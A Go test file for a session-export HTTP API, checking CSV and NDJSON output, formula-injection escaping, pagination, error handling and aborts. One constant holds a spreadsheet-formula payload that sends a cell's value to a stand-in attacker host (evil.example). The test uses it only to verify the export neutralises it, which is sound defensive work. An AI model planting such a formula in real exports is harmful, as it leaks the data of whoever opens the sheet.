package httpapi

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/masker-dev/sessions"
)

// formulaName is an agent name that a spreadsheet would run: OWASP's CSV injection.
const formulaName = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

// TestExportCSV checks a CSV export byte for byte: headers, the header row, times, kinds as
// sorted compact JSON, quoting, and the ' before cells that a spreadsheet would run.
func TestExportCSV(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	if err := e.store.PutAgent(ctx, sessions.Agent{ID: e.agentA1, AccountID: accountA, Name: formulaName}); err != nil {
		t.Fatal(err)
	}
	a := session(accountA, e.agentA1, time.Minute)
	a.StartedAt = a.StartedAt.Add(794 * time.Millisecond)
	a.RedactionsByKind = map[string]int{"PHONE": 1, "NAME": 2, "DOB": 1}
	a.UpstreamModel = "-model, \"quoted\""
	b := session(accountA, e.agentA2, time.Hour)
	b.Status = sessions.StatusPartial
	b.RedactionsByKind = nil
	c := session(accountB, e.agentB1, time.Minute) // another account
	e.put(t, a, b, c)

	res := e.do(t, http.MethodGet, "/api/v1/sessions/export", e.cookieA)
	if res.status != http.StatusOK {
		t.Fatalf("status %d: %s", res.status, res.body)
	}
	for name, want := range map[string]string{
		"Content-Type":        "text/csv; charset=utf-8",
		"Content-Disposition": `attachment; filename="sessions_account_20260503T120000Z_20260504T120000Z.csv"`,
		"Cache-Control":       "no-store",
	} {
		if got := res.header.Get(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	want := "id,agent_id,agent_name,started_at,ended_at,duration_ms,status,redaction_count,redactions_by_kind,upstream_model\r\n" +
		a.ID + "," + e.agentA1 + `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2026-05-04T11:59:00.794Z,2026-05-04T11:59:01.5Z,706,ok,4,` +
		`"{""DOB"":1,""NAME"":2,""PHONE"":1}","'-model, ""quoted"""` + "\r\n" +
		b.ID + "," + e.agentA2 + ",,2026-05-04T11:00:00Z,2026-05-04T11:00:01.5Z,1500,partial,0,{},\r\n"
	if diff := cmp.Diff(want, string(res.body)); diff != "" {
		t.Errorf("body (-want +got):\n%s", diff)
	}
	// What a spreadsheet reads: the name as text, after the '.
	rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][2]; got != "'"+formulaName {
		t.Errorf("agent_name cell %q", got)
	}
}

// TestCSVText checks the text cells: the formula prefix on each of OWASP's first characters, and
// quoting, read back by encoding/csv.
func TestCSVText(t *testing.T) {
	for _, tt := range []struct{ in, cell string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"a,b", "a,b"},
		{`say "hi"`, `say "hi"`},
		{"two\nlines", "two\nlines"},
		{" leading space", " leading space"},
		{"bad \xff utf-8", "bad \uFFFD utf-8"},
		{"é=ü", "é=ü"},
	} {
		line := string(appendCSVText(nil, tt.in)) + ",end\r\n"
		rec, err := csv.NewReader(strings.NewReader(line)).Read()
		if err != nil {
			t.Errorf("%q: %q does not parse: %v", tt.in, line, err)
			continue
		}
		if diff := cmp.Diff([]string{tt.cell, "end"}, rec); diff != "" {
			t.Errorf("%q: written %q (-want +read):\n%s", tt.in, line, diff)
		}
	}
}

// exportSize is the number of sessions of TestExportEqualsTheWalk: SESSIONS_EXPORT_SIZE (e.g.
// 1000000), or 3,000.
func exportSize(tb testing.TB) int {
	tb.Helper()
	v := os.Getenv("SESSIONS_EXPORT_SIZE")
	if v == "" {
		return 3_000
	}
	n, err := strconv.Atoi(v)
	if err != nil || n < 1 {
		tb.Fatalf("SESSIONS_EXPORT_SIZE=%q: want a positive whole number", v)
	}
	return n
}

// putMany stores n sessions over the last 30 days, spread over A1 and A2, with several kinds,
// statuses and models, and shared start times; in batches.
func (e *env) putMany(tb testing.TB, n int) {
	tb.Helper()
	models := []string{"gpt-4o-mini", "", "+plus, model", "claude"}
	batch := make([]sessions.Session, 0, 1000)
	for i := range n {
		agent := e.agentA1
		if i%3 == 0 {
			agent = e.agentA2
		}
		s := session(accountA, agent, time.Duration(i%(30*24*3600))*time.Second+time.Duration(i%7)*time.Millisecond)
		s.ID = sessions.SessionIDPrefix + fmt.Sprintf("%026d", i) // unique; shared start times when n is large
		s.Status = []sessions.Status{sessions.StatusOK, sessions.StatusError, sessions.StatusPartial}[i%3]
		s.RedactionsByKind = map[string]int{"NAME": i % 4, "PHONE": i % 2, "DOB": i % 5}
		s.UpstreamModel = models[i%len(models)]
		batch = append(batch, s)
		if len(batch) == cap(batch) || i == n-1 {
			e.put(tb, batch...)
			batch = batch[:0]
		}
	}
}

// csvCells returns the cells of the CSV row of s, made without the handler's code.
func csvCells(tb testing.TB, s sessions.Session) []string {
	tb.Helper()
	text := func(v string) string {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			return "'" + v
		}
		return v
	}
	kinds, err := json.Marshal(s.RedactionsByKind) // sorted keys, compact
	if err != nil {
		tb.Fatal(err)
	}
	return []string{s.ID, s.AgentID, text(s.AgentName),
		s.StartedAt.UTC().Format(timeLayout), s.EndedAt.UTC().Format(timeLayout),
		strconv.FormatInt(s.Duration().Milliseconds(), 10), string(s.Status),
		strconv.Itoa(s.RedactionCount()), string(kinds), text(s.UpstreamModel)}
}

// TestExportEqualsTheWalk exports every session of account A over loopback, as CSV, parses it
// back with encoding/csv, and compares it row by row with a walk of the same filter. With
// SESSIONS_EXPORT_SIZE=1000000 it exports a million sessions.
func TestExportEqualsTheWalk(t *testing.T) {
	e := newEnv(t)
	n := exportSize(t)
	e.putMany(t, n)
	srv := httptest.NewServer(e.h)
	defer srv.Close()
	req, _ := http.NewRequest(http.MethodGet, srv.URL+"/api/v1/sessions/export?since=31d", nil)
	req.Header.Set("Cookie", e.cookieA)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	r := csv.NewReader(bufio.NewReaderSize(res.Body, 64<<10))
	r.ReuseRecord = true
	header, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	if want := strings.Split(strings.TrimSpace(csvHeader), ","); !slices.Equal(header, want) {
		t.Fatalf("header %v, want %v", header, want)
	}
	next, stop := iter.Pull2(sessions.All(context.Background(), e.store,
		sessions.Filter{AccountID: accountA, Since: now.Add(-31 * 24 * time.Hour)}))
	defer stop()
	rows := 0
	for {
		rec, rerr := r.Read()
		s, werr, more := next()
		if werr != nil {
			t.Fatal(werr)
		}
		if rerr == io.EOF || !more {
			if rerr != io.EOF || more {
				t.Fatalf("after %d rows: the export ends: %v, the walk ends: %v", rows, rerr == io.EOF, !more)
			}
			break
		}
		if rerr != nil {
			t.Fatalf("row %d: %v", rows+1, rerr)
		}
		if diff := cmp.Diff(csvCells(t, s), rec); diff != "" {
			t.Fatalf("row %d (-walk +export):\n%s", rows+1, diff)
		}
		rows++
	}
	if rows != n {
		t.Errorf("%d rows, want %d", rows, n)
	}
}

// TestExportNDJSON checks that each line of an NDJSON export is the item that the list gives for
// that session, in list order, on both routes.
func TestExportNDJSON(t *testing.T) {
	e := newEnv(t)
	e.putMany(t, 250)
	for _, tc := range []struct{ export, list, filename string }{
		{"/api/v1/sessions/export?format=ndjson&status=error", "/api/v1/sessions?status=error&limit=100",
			"sessions_account_20260503T120000Z_20260504T120000Z.ndjson"},
		{"/api/v1/agents/" + e.agentA1 + "/sessions/export?format=ndjson&since=2026-05-04T11:57:00.5Z&until=1m", "/api/v1/sessions?agent_id=" + e.agentA1 + "&since=2026-05-04T11:57:00.5Z&until=1m&limit=100",
			"sessions_" + e.agentA1 + "_20260504T115700Z_20260504T115900Z.ndjson"},
		{"/api/v1/sessions/export?agent_id=" + e.agentA2 + "&format=ndjson&min_redactions=5", "/api/v1/sessions?agent_id=" + e.agentA2 + "&min_redactions=5&limit=100",
			"sessions_" + e.agentA2 + "_20260503T120000Z_20260504T120000Z.ndjson"},
	} {
		res := e.do(t, http.MethodGet, tc.export, e.cookieA)
		if res.status != http.StatusOK || res.header.Get("Content-Type") != "application/x-ndjson" {
			t.Fatalf("%s: status %d, %q: %s", tc.export, res.status, res.header.Get("Content-Type"), res.body)
		}
		if got, want := res.header.Get("Content-Disposition"), `attachment; filename="`+tc.filename+`"`; got != want {
			t.Errorf("%s: Content-Disposition %q, want %q", tc.export, got, want)
		}
		var want []string
		for target := tc.list; ; {
			p := e.do(t, http.MethodGet, target, e.cookieA).page(t)
			for _, item := range p.Data {
				b, _ := json.Marshal(item)
				want = append(want, string(b))
			}
			if p.NextCursor == "" {
				break
			}
			target = tc.list + "&cursor=" + p.NextCursor
		}
		var got []string
		for line := range strings.Lines(string(res.body)) {
			var item map[string]any
			if err := json.Unmarshal([]byte(line), &item); err != nil {
				t.Fatalf("%s: %v: %q", tc.export, err, line)
			}
			b, _ := json.Marshal(item)
			got = append(got, string(b))
		}
		if len(want) == 0 {
			t.Fatalf("%s: no session to export", tc.list)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-list +export):\n%s", tc.export, diff)
		}
	}
}

// TestExportEmpty checks that an export of nothing is the header row alone, or no line.
func TestExportEmpty(t *testing.T) {
	e := newEnv(t)
	for target, want := range map[string]string{
		"/api/v1/sessions/export": csvHeader,
		"/api/v1/agents/" + e.agentA1 + "/sessions/export?format=ndjson": "",
	} {
		res := e.do(t, http.MethodGet, target, e.cookieA)
		if res.status != http.StatusOK || string(res.body) != want {
			t.Errorf("%s: status %d, body %q; want 200 and %q", target, res.status, res.body, want)
		}
	}
}

// TestExportErrors checks the errors of the export routes, which come before the first byte
// and use the envelope, and HEAD.
func TestExportErrors(t *testing.T) {
	e := newEnv(t)
	e.putMany(t, 10)
	agentPath := "/api/v1/agents/" + e.agentA1 + "/sessions/export"
	tests := []struct {
		name, method, target, cookie string
		status                       int
		code                         string
		params                       []string
	}{
		{"no cookie", "GET", agentPath, "", 401, "unauthenticated", nil},
		{"no cookie, bad parameters", "GET", agentPath + "?format=xml&limit=1", "", 401, "unauthenticated", nil},
		{"another account's agent", "GET", agentPath, e.cookieB, 404, "agent_not_found", nil},
		{"malformed agent", "GET", "/api/v1/agents/nope/sessions/export", e.cookieA, 404, "agent_not_found", nil},
		{"unknown agent", "GET", "/api/v1/agents/" + sessions.NewAgentID() + "/sessions/export", e.cookieA, 404, "agent_not_found", nil},
		{"agent_id of another account", "GET", "/api/v1/sessions/export?agent_id=" + e.agentB1, e.cookieA, 404, "agent_not_found", nil},
		{"limit", "GET", agentPath + "?limit=5", e.cookieA, 422, "validation_failed", []string{"limit"}},
		{"cursor", "GET", "/api/v1/sessions/export?cursor=abc", e.cookieA, 422, "validation_failed", []string{"cursor"}},
		{"unknown format", "GET", agentPath + "?format=xlsx", e.cookieA, 422, "validation_failed", []string{"format"}},
		{"format twice", "GET", agentPath + "?format=csv&format=csv", e.cookieA, 422, "validation_failed", []string{"format"}},
		{"empty format", "GET", agentPath + "?format=", e.cookieA, 422, "validation_failed", []string{"format"}},
		{"every bad value at once", "GET", "/api/v1/sessions/export?since=x&status=fine&min_redactions=a&format=CSV&typo=1", e.cookieA, 422, "validation_failed",
			[]string{"typo", "since", "status", "min_redactions", "format"}},
		{"until before since", "GET", agentPath + "?since=1h&until=2h", e.cookieA, 422, "validation_failed", []string{"until"}},
		{"POST", "POST", agentPath, e.cookieA, 405, "method_not_allowed", nil},
		{"PUT on the account route", "PUT", "/api/v1/sessions/export", e.cookieA, 405, "method_not_allowed", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.do(t, tt.method, tt.target, tt.cookie)
			if res.status != tt.status || res.header.Get("Content-Type") != "application/json" {
				t.Fatalf("status %d %q, want %d JSON: %s", res.status, res.header.Get("Content-Type"), tt.status, res.body)
			}
			env := res.envelope(t)
			if env.Code != tt.code {
				t.Errorf("code %q, want %q", env.Code, tt.code)
			}
			var params []string
			for _, d := range env.Details {
				params = append(params, d.Param)
			}
			if diff := cmp.Diff(tt.params, params); diff != "" {
				t.Errorf("details (-want +got):\n%s", diff)
			}
			if tt.status == http.StatusMethodNotAllowed && res.header.Get("Allow") != "GET, HEAD" {
				t.Errorf("Allow %q", res.header.Get("Allow"))
			}
		})
	}
	for _, format := range []string{"csv", "ndjson"} {
		target := agentPath + "?format=" + format
		get := e.do(t, http.MethodGet, target, e.cookieA)
		head := e.do(t, http.MethodHead, target, e.cookieA)
		if head.status != http.StatusOK || len(head.body) != 0 {
			t.Errorf("HEAD %s: status %d, %d bytes", target, head.status, len(head.body))
		}
		for _, name := range []string{"Content-Type", "Content-Disposition", "Cache-Control"} {
			if head.header.Get(name) != get.header.Get(name) || get.header.Get(name) == "" {
				t.Errorf("HEAD %s: %s %q, GET's %q", target, name, head.header.Get(name), get.header.Get(name))
			}
		}
	}
}

// failingList returns a faultyStore whose ListSessions fails from its call number fail on (1 is
// the first), and counts the calls.
func failingList(fail int, err error) (*faultyStore, *int) {
	fs := &faultyStore{}
	calls := 0
	var mu sync.Mutex
	fs.list = func(ctx context.Context, f sessions.Filter) (sessions.Page, error) {
		mu.Lock()
		calls++
		n := calls
		mu.Unlock()
		if n >= fail {
			return sessions.Page{}, err
		}
		return fs.Store.ListSessions(ctx, f)
	}
	return fs, &calls
}

// TestExportAbortsMidway checks that a store failure after the first byte aborts the transfer:
// the client gets the status line and part of the file, then an error, never a clean end.
func TestExportAbortsMidway(t *testing.T) {
	for _, format := range []string{"csv", "ndjson"} {
		fs, _ := failingList(6, fmt.Errorf("disk on fire: %w", sessions.ErrUnavailable))
		e := newEnv(t, withStore(fs))
		e.putMany(t, 1000)
		srv := httptest.NewServer(e.h)
		req, _ := http.NewRequest(http.MethodGet, srv.URL+"/api/v1/sessions/export?since=30d&format="+format, nil)
		req.Header.Set("Cookie", e.cookieA)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%s: status %d", format, res.StatusCode)
		}
		body, err := io.ReadAll(res.Body)
		res.Body.Close()
		srv.Close()
		if !errors.Is(err, io.ErrUnexpectedEOF) {
			t.Errorf("%s: reading the body: %v after %d bytes; want io.ErrUnexpectedEOF", format, err, len(body))
		}
		if len(body) == 0 {
			t.Errorf("%s: no byte before the failure: the test does not test an abort midway", format)
		}
		if logs := e.logs.String(); !strings.Contains(logs, "export aborted") || !strings.Contains(logs, "disk on fire") {
			t.Errorf("%s: logs do not say why the export was aborted:\n%s", format, logs)
		}
	}
	// In process, the handler panics with http.ErrAbortHandler, which net/http turns into an abort.
	fs, _ := failingList(2, errors.New("corrupt page"))
	e := newEnv(t, withStore(fs))
	e.putMany(t, 150)
	defer func() {
		if v := recover(); v != http.ErrAbortHandler {
			t.Errorf("recovered %v, want http.ErrAbortHandler", v)
		}
	}()
	e.h.ServeHTTP(httptest.NewRecorder(), httptestRequest("GET", "/api/v1/sessions/export?since=30d", e.cookieA))
	t.Error("the export did not abort")
}

// TestExportFirstPageFails checks that a failure before the first byte gets the envelope.
func TestExportFirstPageFails(t *testing.T) {
	for _, tc := range []struct {
		err    error
		status int
	}{
		{fmt.Errorf("disk on fire: %w", sessions.ErrUnavailable), http.StatusServiceUnavailable},
		{errors.New("corrupt page"), http.StatusInternalServerError},
	} {
		fs, _ := failingList(1, tc.err)
		e := newEnv(t, withStore(fs))
		e.putMany(t, 10)
		res := e.do(t, http.MethodGet, "/api/v1/sessions/export", e.cookieA)
		if res.status != tc.status || res.header.Get("Content-Disposition") != "" || strings.Contains(string(res.body), "corrupt") {
			t.Errorf("%v: status %d, Content-Disposition %q: %s", tc.err, res.status, res.header.Get("Content-Disposition"), res.body)
		}
	}
}

// TestExportTimeoutPerPage checks that Config.Timeout bounds each page of an export, not the
// export: each page gets a deadline of its own.
func TestExportTimeoutPerPage(t *testing.T) {
	var deadlines []time.Time
	fs := &faultyStore{}
	fs.list = func(ctx context.Context, f sessions.Filter) (sessions.Page, error) {
		d, ok := ctx.Deadline()
		if !ok {
			return sessions.Page{}, errors.New("a page without deadline")
		}
		deadlines = append(deadlines, d)
		return fs.Store.ListSessions(ctx, f)
	}
	e := newEnv(t, withStore(fs), func(c *Config) { c.Timeout = time.Hour })
	e.putMany(t, 350)
	res := e.do(t, http.MethodGet, "/api/v1/sessions/export?since=30d", e.cookieA)
	if res.status != http.StatusOK || bytes.Count(res.body, []byte("\r\n")) != 351 {
		t.Fatalf("status %d, %d lines", res.status, bytes.Count(res.body, []byte("\r\n")))
	}
	if len(deadlines) != 4 {
		t.Fatalf("%d pages, want 4", len(deadlines))
	}
	for i := 1; i < len(deadlines); i++ {
		if !deadlines[i].After(deadlines[i-1]) {
			t.Errorf("page %d has the deadline of page %d: one timeout for the whole export", i+1, i)
		}
	}
}

// TestExportExactlyOnce checks the walk's guarantee over an export while sessions are written
// between its pages and the clock moves on: every session that matched when the export began
// appears exactly once, rewrites that keep the start time included, and the window is the one
// resolved when the export began.
func TestExportExactlyOnce(t *testing.T) {
	var before []string
	fs := &faultyStore{}
	e := newEnv(t, withStore(fs))
	e.putMany(t, 700)                                    // up to 700s back: all inside the default 24h window
	oldest := session(accountA, e.agentA1, 24*time.Hour) // at the window's edge
	e.put(t, oldest)
	for s, err := range sessions.All(context.Background(), e.store, sessions.Filter{AccountID: accountA, Since: now.Add(-24 * time.Hour)}) {
		if err != nil {
			t.Fatal(err)
		}
		before = append(before, s.ID)
	}
	calls := 0
	fs.list = func(ctx context.Context, f sessions.Filter) (sessions.Page, error) {
		calls++
		e.clock.Add(time.Hour) // a since resolved again would lose the oldest session
		// A new session at the top, one in the middle of what is left, and a rewrite of a session
		// not yet read, with the same start time and a new status.
		top := session(accountA, e.agentA2, -time.Duration(calls)*time.Second)
		mid := session(accountA, e.agentA2, 650*time.Second+time.Duration(calls)*time.Millisecond)
		var rewrite sessions.Session
		for s, err := range sessions.All(ctx, fs.Store, sessions.Filter{AccountID: accountA, After: f.After, Limit: 1, Since: f.Since}) {
			if err != nil {
				return sessions.Page{}, err
			}
			rewrite = s
			break
		}
		rewrite.Status = sessions.StatusError
		if err := fs.Store.PutSessions(ctx, top, mid, rewrite); err != nil {
			return sessions.Page{}, err
		}
		return fs.Store.ListSessions(ctx, f)
	}
	res := e.do(t, http.MethodGet, "/api/v1/sessions/export", e.cookieA)
	if res.status != http.StatusOK {
		t.Fatalf("status %d: %s", res.status, res.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, row := range rows[1:] {
		seen[row[0]]++
	}
	for _, id := range before {
		if seen[id] != 1 {
			t.Errorf("session %s appears %d times, want once", id, seen[id])
		}
	}
	for id, n := range seen {
		if n > 1 {
			t.Errorf("session %s appears %d times", id, n)
		}
	}
	if calls < 8 {
		t.Errorf("%d pages: the test wants several", calls)
	}
}

// TestOpenAPISummaryAndExportParameters checks that the documented query parameters of the
// summary and export routes are those they accept, each accepted with its example.
func TestOpenAPISummaryAndExportParameters(t *testing.T) {
	e := newEnv(t)
	e.putMany(t, 5)
	for tmpl, ep := range map[string]*endpoint{
		routeAgentSummary: agentSummaryEndpoint,
		routeSummary:      accountSummaryEndpoint,
		routeAgentExport:  agentExportEndpoint,
		routeExport:       accountExportEndpoint,
	} {
		doc := documentedParams(t, tmpl)
		var names, accepted []string
		for name := range doc {
			names = append(names, name)
		}
		for _, p := range ep.params {
			accepted = append(accepted, paramNames[p])
		}
		slices.Sort(names)
		slices.Sort(accepted)
		if !slices.Equal(names, accepted) {
			t.Errorf("%s: documented %v, accepted %v", tmpl, names, accepted)
		}
		path := strings.Replace(tmpl, "{agent_id}", e.agentA1, 1)
		for name, example := range doc {
			value := fmt.Sprint(example)
			if name == "agent_id" {
				value = e.agentA1
			}
			if res := e.do(t, "GET", path+"?"+name+"="+value, e.cookieA); res.status != http.StatusOK {
				t.Errorf("%s?%s=%s: got %d %s", tmpl, name, value, res.status, res.body)
			}
		}
	}
}

// TestExportSlowClient checks that an export to a client that stops reading ends after
// exportWriteWait, and frees the account's store slot: with MaxAccountCalls 1, the account's
// next request is served, not refused with 429.
func TestExportSlowClient(t *testing.T) {
	defer func(d time.Duration) { exportWriteWait = d }(exportWriteWait)
	exportWriteWait = 2 * time.Second // long enough for the 429s to be seen on a busy machine
	e := newEnv(t, func(cfg *Config) { cfg.MaxAccountCalls = 1 })
	e.putMany(t, 100_000) // about 15 MB of CSV: more than the sockets' buffers hold
	srv := httptest.NewServer(e.h)
	defer srv.Close()
	conn, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET /api/v1/sessions/export?since=30d HTTP/1.1\r\nHost: x\r\nCookie: %s\r\n\r\n", e.cookieA)
	// The export has its slot once its status line comes; the list must not take the slot first.
	if line, err := bufio.NewReader(conn).ReadString('\n'); err != nil || !strings.HasPrefix(line, "HTTP/1.1 200") {
		t.Fatalf("the export's status line: %q, %v", line, err)
	}
	// The client reads nothing. Once the export has the account's one slot, the account's lists
	// get 429 until the export gives up.
	want, deadline := http.StatusTooManyRequests, time.Now().Add(20*time.Second)
	for want != 0 {
		res := e.do(t, http.MethodGet, "/api/v1/sessions", e.cookieA)
		switch {
		case res.status == want && want == http.StatusTooManyRequests:
			want = http.StatusOK
		case res.status == want:
			want = 0
		case time.Now().After(deadline):
			t.Fatalf("the account's list: status %d, waiting for %d (429 while the export stalls, then 200)", res.status, want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestExportHTTP10 checks that an export over HTTP/1.0, where an aborted transfer would look like
// a whole file, gets 505 with the envelope, over the wire and in process; and that the check
// comes after authentication.
func TestExportHTTP10(t *testing.T) {
	e := newEnv(t)
	e.putMany(t, 10)
	srv := httptest.NewServer(e.h)
	defer srv.Close()
	for _, tc := range []struct {
		cookie string
		status int
	}{{e.cookieA, http.StatusHTTPVersionNotSupported}, {"", http.StatusUnauthorized}} {
		conn, err := net.Dial("tcp", srv.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(conn, "GET /api/v1/sessions/export HTTP/1.0\r\nCookie: %s\r\n\r\n", tc.cookie)
		res, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		conn.Close()
		if res.StatusCode != tc.status || res.Header.Get("Content-Disposition") != "" {
			t.Errorf("cookie %q: status %d, Content-Disposition %q: %s", tc.cookie, res.StatusCode, res.Header.Get("Content-Disposition"), body)
		}
		if tc.status == http.StatusHTTPVersionNotSupported && !bytes.Contains(body, []byte(`"code":"http_version_not_supported"`)) {
			t.Errorf("body %s", body)
		}
	}
	req := httptestRequest("GET", "/api/v1/agents/"+e.agentA1+"/sessions/export", e.cookieA)
	req.Proto, req.ProtoMajor, req.ProtoMinor = "HTTP/1.0", 1, 0
	rec := httptest.NewRecorder()
	e.h.ServeHTTP(rec, req)
	if rec.Code != http.StatusHTTPVersionNotSupported {
		t.Errorf("agent export over HTTP/1.0 in process: status %d", rec.Code)
	}
}
